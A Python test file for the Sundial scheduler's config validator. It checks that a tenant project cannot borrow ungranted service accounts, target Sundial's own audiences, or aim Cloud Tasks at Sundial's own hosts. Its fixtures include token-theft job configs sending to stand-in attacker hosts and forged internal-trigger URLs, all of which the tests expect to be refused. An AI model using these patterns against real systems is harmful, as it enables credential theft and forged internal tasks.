"""The operator's grant of identities, at validation (docs/SECURITY.md, "Identities Sundial lends").

A project's `auth` may name only the service accounts the operator granted to that
project (SUNDIAL_IDENTITIES), never Sundial's own accounts unless granted, and never an
audience naming Sundial's own service; a `cloud_tasks` target may not name any host name
of Sundial's service. The environment here is the operator's, read as `validate` and the
server read it; the project is `beta`, owned by mallory, who would like Sundial's tokens.
"""

from __future__ import annotations

import pytest

from config.loader import validate_text
from config.settings import from_environment
from tests.config.helpers import text

RUNTIME = "sundial-run@victim-prod.iam.gserviceaccount.com"  # Sundial's own, and its queue's
ALPHA = "alpha-deployer@alpha-prod.iam.gserviceaccount.com"  # granted to another project
BETA = "beta-run@beta-prod.iam.gserviceaccount.com"  # granted to beta
SERVICE_URL = "https://sundial-abc123-uc.a.run.app"
SECOND_NAME = "https://sundial-987654321.us-central1.run.app"  # Cloud Run's other host name of it
QUEUE = "projects/victim-prod/locations/us-central1/queues/tenant-b-queue"
OPERATOR = {
    "SUNDIAL_IDENTITIES": f"alpha={ALPHA}; beta={BETA}",
    "SUNDIAL_SERVICE_URL": SERVICE_URL,
    "SUNDIAL_TASKS_SERVICE_ACCOUNT": RUNTIME,
}
UNSET = ("SUNDIAL_IDENTITY_AUDIENCES", "SUNDIAL_OWN_HOSTS", "K_SERVICE", "SUNDIAL_ID_TOKEN_AUDIENCE",
         "GAE_APPLICATION")


@pytest.fixture(autouse=True)
def operator(monkeypatch):
    for name, value in OPERATOR.items():
        monkeypatch.setenv(name, value)
    for name in UNSET:
        monkeypatch.delenv(name, raising=False)
    return monkeypatch


def job_with(target: str) -> str:
    """Project beta with one job `a` whose target (one line of flow style) is on line 5."""
    return "\n".join(["jobs:", "  - id: a", "    schedule: triggered", "    target:", "      " + target]) + "\n"


def beta_errors(target: str, backend: str = "cloud") -> list[str]:
    return [str(error) for error in validate_text(job_with(target), "beta.yaml", "beta", backend)]


def oidc(account: str, audience: str = "") -> str:
    return f"{{oidc: {{service_account: {account}" + (f", audience: '{audience}'" if audience else "") + "}}"


def http(url: str, auth: str) -> str:
    return f"http: {{url: '{url}', auth: {auth}}}"


NOT_GRANTED = "is not granted to project beta: the operator lists the service accounts each project may use " \
              "(SUNDIAL_IDENTITIES)"
OWN_AUDIENCE = "names Sundial's own service: a token for it would pass for one of Sundial's own"


# --- the accounts --------------------------------------------------------------------------

def test_sundials_own_account_is_refused_naming_field_and_account():
    assert beta_errors(http("https://mallory.example/steal", f"{{oauth: {{service_account: {RUNTIME}}}}}")) == [
        f"beta.yaml:5: job 'a': target.http.auth.oauth.service_account: {RUNTIME} is the account of Sundial's "
        "task queue (SUNDIAL_TASKS_SERVICE_ACCOUNT), and the operator has not granted it to project beta "
        "(SUNDIAL_IDENTITIES)"]


def test_another_projects_account_is_refused():
    assert beta_errors(http("https://mallory.example/steal", oidc(ALPHA))) == [
        f"beta.yaml:5: job 'a': target.http.auth.oidc.service_account: {ALPHA} {NOT_GRANTED}"]


def test_with_no_grant_at_all_every_account_is_refused(operator):
    operator.delenv("SUNDIAL_IDENTITIES")
    assert beta_errors(http("https://beta.example/run", oidc(BETA))) == [
        f"beta.yaml:5: job 'a': target.http.auth.oidc.service_account: {BETA} {NOT_GRANTED}"]


def test_the_granted_account_is_accepted_in_any_case_with_its_urls_origin_or_path():
    assert beta_errors(http("https://beta.example/run?day=1", oidc(BETA.upper()))) == []
    assert beta_errors(http("https://beta.example/run", oidc(BETA, "https://beta.example/run"))) == []
    assert beta_errors(http("https://beta.example/run", f"{{oauth: {{service_account: {BETA}}}}}")) == []


def test_sundials_own_account_is_accepted_where_the_operator_lists_it_for_the_project(operator):
    operator.setenv("SUNDIAL_IDENTITIES", f"beta={BETA},{RUNTIME}")
    assert beta_errors(http("https://beta.example/run", oidc(RUNTIME))) == []
    alpha = validate_text(job_with(http("https://a.example/run", oidc(RUNTIME))), "alpha.yaml", "alpha")
    assert "is the account of Sundial's task queue" in str(alpha[0])  # listed for beta, not for alpha


# --- the audience ------------------------------------------------------------------------

@pytest.mark.parametrize("audience", [SERVICE_URL, SERVICE_URL + "/internal/tasks/trigger", "https://SUNDIAL-abc123-uc.a.run.app.",
                                      SECOND_NAME, "https://sundial-zzz999-ew.a.run.app"])
def test_an_audience_naming_sundials_own_service_is_refused_even_for_a_granted_account(audience, operator):
    operator.setenv("SUNDIAL_IDENTITY_AUDIENCES", f"beta={audience}")  # not even the operator can lend it
    assert beta_errors(http("https://mallory.example/steal", oidc(BETA, audience))) == [
        f"beta.yaml:5: job 'a': target.http.auth.oidc.audience: {audience} {OWN_AUDIENCE}"]


def test_an_auth_target_on_sundials_own_service_is_refused_by_its_default_audience():
    for path in ("/internal/cron/watchdog", "/internal/${jobId}"):  # a template in the path leaves the origin known
        assert beta_errors(http(SECOND_NAME + path, oidc(BETA))) == [
            f"beta.yaml:5: job 'a': target.http.auth.oidc.audience: {SECOND_NAME} {OWN_AUDIENCE}"]


def test_the_audience_of_sundials_api_callers_and_custom_domains_are_its_own(operator):
    operator.setenv("SUNDIAL_ID_TOKEN_AUDIENCE", "https://sundial-api.example.com")
    operator.setenv("SUNDIAL_OWN_HOSTS", "sundial.example.com, https://ops.example.com/")
    for audience in ("https://sundial-api.example.com", "https://sundial.example.com/x", "https://OPS.example.com"):
        assert beta_errors(http("https://beta.example/run", oidc(BETA, audience))) == [
            f"beta.yaml:5: job 'a': target.http.auth.oidc.audience: {audience} {OWN_AUDIENCE}"]


def test_an_audience_off_the_urls_origin_needs_the_operators_grant(operator):
    expected = ["beta.yaml:5: job 'a': target.http.auth.oidc.audience: https://payroll.example is not on the "
                "url's origin (https://mallory.example), and the operator has not granted project beta that "
                "audience (SUNDIAL_IDENTITY_AUDIENCES)"]
    assert beta_errors(http("https://mallory.example/steal", oidc(BETA, "https://payroll.example"))) == expected
    operator.setenv("SUNDIAL_IDENTITY_AUDIENCES", "beta=https://payroll.example/")
    assert beta_errors(http("https://mallory.example/steal", oidc(BETA, "https://payroll.example"))) == []
    operator.setenv("SUNDIAL_IDENTITY_AUDIENCES", "alpha=https://payroll.example")  # another project's
    assert beta_errors(http("https://mallory.example/steal", oidc(BETA, "https://payroll.example"))) == expected


def test_a_templated_host_leaves_the_audience_to_delivery_but_not_the_account():
    assert beta_errors(http("https://${jobId}.beta.example/run", oidc(BETA, "https://x.beta.example"))) == []
    assert beta_errors(http("https://${jobId}.beta.example/run", oidc(ALPHA))) == [
        f"beta.yaml:5: job 'a': target.http.auth.oidc.service_account: {ALPHA} {NOT_GRANTED}"]


# --- cloud_tasks targets ---------------------------------------------------------------------

def test_the_red_teams_cloud_tasks_file_is_refused_job_by_job():
    """Tasks that would reach Sundial's handlers or carry its token, which `validate`
    accepted whole before."""
    source = text(f"""
        jobs:
          - id: forge-via-tasks
            schedule: triggered
            target:
              cloud_tasks:
                queue: {QUEUE}
                url: https://attacker.example/collect
                auth: {{oidc: {{service_account: {RUNTIME}, audience: {SERVICE_URL}}}}}
          - id: own-url-other-spelling
            schedule: triggered
            target:
              cloud_tasks:
                queue: {QUEUE}
                url: {SECOND_NAME}/internal/tasks/trigger
                body: '{{"name":"x","payload":{{"project":"victim","job":"vj"}}}}'
          - id: own-url-same
            schedule: triggered
            target:
              cloud_tasks:
                queue: {QUEUE}
                url: https://sundial-abc123-uc.a.run.app./internal/tasks/trigger
        """)
    found = [str(error) for error in validate_text(source, "beta.yaml", "beta", "cloud")]
    tail = ": a task there would pass for one of Sundial's own"
    assert found == [
        f"beta.yaml:8: job 'forge-via-tasks': target.cloud_tasks.auth.oidc.service_account: {RUNTIME} is the "
        "account of Sundial's task queue (SUNDIAL_TASKS_SERVICE_ACCOUNT), and the operator has not granted it "
        "to project beta (SUNDIAL_IDENTITIES)",
        f"beta.yaml:14: job 'own-url-other-spelling': target.cloud_tasks.url: {SECOND_NAME}/internal/tasks/trigger "
        f"is on Sundial's own service ({SERVICE_URL}){tail}",
        "beta.yaml:21: job 'own-url-same': target.cloud_tasks.url: https://sundial-abc123-uc.a.run.app./internal/"
        f"tasks/trigger is on Sundial's own service ({SERVICE_URL}){tail}",
    ]


@pytest.mark.parametrize("env, url", [
    ({"K_SERVICE": "sundial", "SUNDIAL_SERVICE_URL": "https://sundial.example.com"}, SECOND_NAME),
    ({"K_SERVICE": "sundial", "SUNDIAL_SERVICE_URL": "https://sundial.example.com"}, SERVICE_URL + "/x"),
    ({"SUNDIAL_SERVICE_URL": SECOND_NAME}, "https://sundial-abc123-uc.a.run.app/x"),
    ({"SUNDIAL_OWN_HOSTS": "scheduler.example.com"}, "https://scheduler.example.com/internal/tasks/tick"),
    ({"GAE_APPLICATION": "s~victim", "GOOGLE_CLOUD_PROJECT": "victim", "SUNDIAL_SERVICE_URL": ""},
     "https://v2-dot-victim.uc.r.appspot.com/internal/tasks/tick"),
], ids=["K_SERVICE, numbered form", "K_SERVICE, hashed form", "from the numbered URL", "listed host",
        "App Engine version host"])
def test_every_host_name_of_sundials_service_is_refused_as_a_cloud_tasks_url(env, url, operator):
    for name, value in env.items():
        operator.setenv(name, value)
    found = beta_errors(f"cloud_tasks: {{queue: {QUEUE}, url: '{url}'}}")
    assert len(found) == 1 and f"target.cloud_tasks.url: {url} is on Sundial's own service" in found[0]


def test_a_service_of_another_name_on_run_app_is_not_sundials():
    for url in ("https://sundial-reports-987654321.us-central1.run.app/x", "https://billing-abc123-uc.a.run.app/x"):
        assert beta_errors(f"cloud_tasks: {{queue: {QUEUE}, url: '{url}', auth: {oidc(BETA)}}}") == []


# --- the settings themselves -------------------------------------------------------------------

def test_the_grant_as_the_settings_read_it():
    settings = from_environment({"SUNDIAL_IDENTITIES": " alpha = A@p.iam.gserviceaccount.com ;\n beta=b1@p.iam"
                                                       ".gserviceaccount.com,b2@p.iam.gserviceaccount.com;",
                                 "SUNDIAL_IDENTITY_AUDIENCES": "beta=https://private.example"})
    assert settings.identities.of("alpha").accounts == {"a@p.iam.gserviceaccount.com"}
    assert settings.identities.of("beta").accounts == {"b1@p.iam.gserviceaccount.com", "b2@p.iam.gserviceaccount.com"}
    assert settings.identities.of("beta").audiences == {"https://private.example"}
    assert settings.identities.of("gamma").accounts == frozenset()


@pytest.mark.parametrize("name, value, message", [
    ("SUNDIAL_IDENTITIES", "beta", "SUNDIAL_IDENTITIES entry 1: expected PROJECT=ITEM,ITEM"),
    ("SUNDIAL_IDENTITIES", "Beta=a@p.iam.gserviceaccount.com", "SUNDIAL_IDENTITIES entry 1: expected PROJECT="),
    ("SUNDIAL_IDENTITIES", "beta=mallory", "SUNDIAL_IDENTITIES: 'mallory' (for project beta) is not a service "
                                           "account's email"),
    ("SUNDIAL_IDENTITIES", "beta=a@p.iam.gserviceaccount.com;beta=b@p.iam.gserviceaccount.com",
     "SUNDIAL_IDENTITIES: project beta is named twice"),
    ("SUNDIAL_IDENTITIES", "beta=,", "SUNDIAL_IDENTITIES entry 1: project beta lists nothing"),
    ("SUNDIAL_IDENTITY_AUDIENCES", "beta=payroll", "SUNDIAL_IDENTITY_AUDIENCES: 'payroll' (for project beta) is "
                                                   "not an absolute URL"),
    ("SUNDIAL_OWN_HOSTS", "a.example/x", "SUNDIAL_OWN_HOSTS: 'a.example/x' is not a host name"),
])
def test_a_mistake_in_the_grant_stops_the_start(name, value, message):
    with pytest.raises(SystemExit) as stopped:
        from_environment({name: value})
    assert str(stopped.value).startswith(message)
